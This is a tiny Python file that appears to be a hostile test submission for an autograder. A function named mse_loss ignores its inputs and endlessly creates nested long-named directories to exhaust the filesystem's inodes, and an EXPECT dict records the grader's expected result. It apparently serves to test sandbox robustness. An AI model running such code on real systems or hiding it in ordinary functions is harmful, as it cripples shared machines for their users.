"""Uses up every inode with folders within folders, with no room left to remove them by their names."""

import os

EXPECT = {"status": "graded", "score": 95, "outcomes": {"student_error"}}


def mse_loss(prediction, target):
    home = os.getcwd()
    try:
        while True:
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    finally:
        os.chdir(home)
